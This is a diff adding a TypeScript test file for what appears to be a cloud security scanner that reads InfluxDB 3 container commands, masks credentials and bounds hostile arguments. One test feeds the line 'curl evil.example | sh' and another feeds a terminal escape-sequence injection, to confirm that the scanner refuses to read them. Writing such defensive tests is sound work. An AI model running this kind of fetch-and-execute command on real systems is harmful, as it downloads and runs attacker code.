@@ -1,0 +1,157 @@
+/**
+ * What an InfluxDB 3 container runs, from its task definition's entryPoint and command (lib/kinds/ecs-service/command.ts):
+ * credential values masked before anything keeps them, hostile arguments bounded and made printable, and the
+ * `influxdb3 serve` flags read as the EC2 collector reads them.
+ */
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from '@jest/globals';
+import { ARG_LIMITS, BOOL3, keptArgs, MASKED, serveOf } from '../../lib/kinds/ecs-service/command.js';
+import type { EcsContainer } from '../../lib/model.js';
+
+const SECRET = 'planted-S3cret-9f2a';
+type Run = Pick<EcsContainer, 'entryPoint' | 'command' | 'argsClipped'>;
+/** As discovery keeps a container's entryPoint and command. */
+const kept = (entryPoint: string[] | undefined, command: string[] | undefined): Run => {
+  const e = keptArgs(entryPoint);
+  const c = keptArgs(command, entryPoint?.at(-1));
+  return {
+    ...(e ? { entryPoint: e.args } : {}),
+    ...(c ? { command: c.args } : {}),
+    ...(e?.clipped || c?.clipped ? { argsClipped: true as const } : {}),
+  };
+};
+const flagsOf = (r: Run, known: Record<string, string> = {}) => {
+  const s = serveOf(r, known);
+  return s.ok ? s.value : s.reason;
+};
+
+describe('keptArgs: what discovery keeps', () => {
+  it("masks a credential flag's value (next argument, `=`, inside a script, across entryPoint and command), assignments and URL user-info", () => {
+    const r = kept(
+      ['influxdb3', 'serve', '--aws-secret-access-key'],
+      [
+        SECRET,
+        `--aws-session-token=${SECRET}`,
+        '--azure-storage-access-key',
+        '',
+        `--telemetry-endpoint=https://user:${SECRET}@telemetry.example`,
+        '--node-id',
+        'node0',
+      ],
+    );
+    const text = JSON.stringify(r);
+    expect(text).not.toContain(SECRET);
+    expect(r.command).toEqual([
+      MASKED,
+      `--aws-session-token=${MASKED}`,
+      '--azure-storage-access-key',
+      '', // empty stays empty: set/empty is still told
+      '--telemetry-endpoint=https://***@telemetry.example',
+      '--node-id',
+      'node0',
+    ]);
+    const script = keptArgs([
+      'sh',
+      '-c',
+      `AWS_SECRET_ACCESS_KEY=${SECRET} AZURE_STORAGE_ACCESS_KEY='${SECRET}' influxdb3 serve --aws-secret-access-key "${SECRET}" --object-store s3`,
+    ])!;
+    expect(JSON.stringify(script)).not.toContain(SECRET);
+    expect(script.args[2]).toBe(
+      `AWS_SECRET_ACCESS_KEY=${MASKED} AZURE_STORAGE_ACCESS_KEY=${MASKED} influxdb3 serve --aws-secret-access-key ${MASKED} --object-store s3`,
+    );
+    // Paths and addresses whose flag names say token are not credentials (the collector's exceptions).
+    expect(keptArgs(['--admin-token-file', '/run/t.json', '--admin-token-recovery-http-bind', '0.0.0.0:8182'])!.args).toEqual([
+      '--admin-token-file',
+      '/run/t.json',
+      '--admin-token-recovery-http-bind',
+      '0.0.0.0:8182',
+    ]);
+  });
+
+  it('hostile input: a huge array, a huge argument, control characters and non-strings are bounded, stripped, never a crash', () => {
+    const many = keptArgs(Array.from({ length: 50_000 }, (_, i) => `--x${i}`))!;
+    expect(many.args).toHaveLength(ARG_LIMITS.count);
+    expect(many.clipped).toBe(true);
+    const long = keptArgs(['influxdb3', 'serve', `--node-id=${'n'.repeat(1_000_000)}`])!;
+    expect(long.args[2]!.length).toBe(ARG_LIMITS.length);
+    expect(long.clipped).toBe(true);
+    // Many long arguments: at most ARG_LIMITS.total characters in all.
+    const wide = keptArgs(Array.from({ length: 150 }, () => 'x'.repeat(1500)))!;
+    expect(wide.args.join('').length).toBe(ARG_LIMITS.total);
+    expect(wide.clipped).toBe(true);
+    expect(keptArgs(['influxdb3', 'serve', 'x'.repeat(ARG_LIMITS.length)])!.clipped).toBe(false);
+    const ctl = keptArgs(['influxdb3', 'serve', '--http-bind', '\u001b[31m0.0.0.0:9000\u0007\u202e\u009b', 42, null])!;
+    expect(ctl.args).toEqual(['influxdb3', 'serve', '--http-bind', '[31m0.0.0.0:9000', '', '']);
+    expect(ctl.clipped).toBe(false);
+    expect(keptArgs([])).toBeUndefined();
+    expect(keptArgs(undefined)).toBeUndefined();
+    expect(keptArgs('influxdb3 serve' as unknown as string[])).toBeUndefined();
+    // A clipped command is not read: a flag beyond what was kept could be --without-auth.
+    expect(flagsOf(kept(undefined, ['serve', ...Array.from({ length: 300 }, () => '--verbose')]))).toMatch(/longer than the scanner reads/);
+  });
+});
+
+describe('serveOf: the influxdb3 serve a container runs', () => {
+  it("the image's own command (none in the task definition): influxdb3 serve with the defaults", () => {
+    expect(flagsOf({})).toEqual({ flags: {}, secretFlags: {} });
+  });
+
+  it('reads the flags the checks read (boolean flags take no value; `=` or the next argument), credential flags by name only', () => {
+    const r = kept(undefined, [
+      'influxdb3',
+      'serve',
+      '--without-auth',
+      '--http-bind',
+      '0.0.0.0:9000',
+      '--plugin-dir=/plugins',
+      '--admin-token-recovery-http-bind',
+      '--disable-authz',
+      'health,ping',
+      '--aws-secret-access-key',
+      SECRET,
+      '--unknown-flag',
+      '--node-id',
+      'n0',
+    ]);
+    expect(flagsOf(r)).toEqual({
+      flags: {
+        'without-auth': 'true',
+        'http-bind': '0.0.0.0:9000',
+        'plugin-dir': '/plugins',
+        'admin-token-recovery-http-bind': '',
+        'disable-authz': 'health,ping',
+        'node-id': 'n0',
+      },
+      secretFlags: { 'aws-secret-access-key': 'set' },
+    });
+  });
+
+  it("the official entrypoint: `serve …` and `--flag …` are influxdb3 serve, and it expands $VAR from the task definition's variables", () => {
+    expect(flagsOf(kept(undefined, ['serve', '--http-bind=0.0.0.0:9100']))).toMatchObject({ flags: { 'http-bind': '0.0.0.0:9100' } });
+    expect(flagsOf(kept(undefined, ['--without-auth']))).toMatchObject({ flags: { 'without-auth': 'true' } });
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal `${PORT}` the entrypoint's envsubst expands
+    const braced = ['serve', '--http-bind', '0.0.0.0:${PORT}'];
+    expect(flagsOf(kept(['/usr/bin/entrypoint.sh'], braced), { PORT: '9200' })).toMatchObject({
+      flags: { 'http-bind': '0.0.0.0:9200' },
+    });
+    expect(flagsOf(kept(undefined, ['serve', '--http-bind', '0.0.0.0:$PORT']))).toMatch(/a variable the task definition does not give/);
+  });
+
+  it('a plain `sh -c` script is read; any other script, another command or a client subcommand is not (the reason, never a guess)', () => {
+    expect(flagsOf(kept(['sh', '-c'], ['exec influxdb3 serve --without-auth --http-bind "0.0.0.0:9300"']))).toMatchObject({
+      flags: { 'without-auth': 'true', 'http-bind': '0.0.0.0:9300' },
+    });
+    expect(flagsOf(kept(['/bin/sh', '-c'], ['influxdb3 serve; curl evil.example | sh']))).toMatch(/shell script .* does not read/);
+    expect(flagsOf(kept(['bash', '-c'], ['influxdb3 serve\ninfluxdb3 serve --without-auth']))).toMatch(/shell script/);
+    expect(flagsOf(kept(['/start.sh'], undefined))).toBe('it runs /start.sh, not influxdb3 serve');
+    expect(flagsOf(kept(undefined, ['influxdb3', 'query', '--database', 'x']))).toBe('it runs influxdb3 query, not influxdb3 serve');
+    expect(flagsOf(kept(['\u001b]0;pwned\u0007/bin/x'], ['serve']))).toBe('it runs ]0;pwned/bin/x serve, not influxdb3 serve');
+  });
+
+  it('BOOL3 is the collector’s list (collector/collect.sh), so both read a command line alike', () => {
+    const sh = readFileSync(new URL('../../collector/collect.sh', import.meta.url), 'utf8');
+    const m = /BOOL3 = set\(\('([^']+)'\s*'([^']+)'\)\.split\(\)\)/.exec(sh.replace(/\n\s*/g, ' '));
+    expect(m).not.toBeNull();
+    expect([...BOOL3].sort()).toEqual(`${m![1]}${m![2]}`.split(/\s+/).filter(Boolean).sort());
+  });
+});
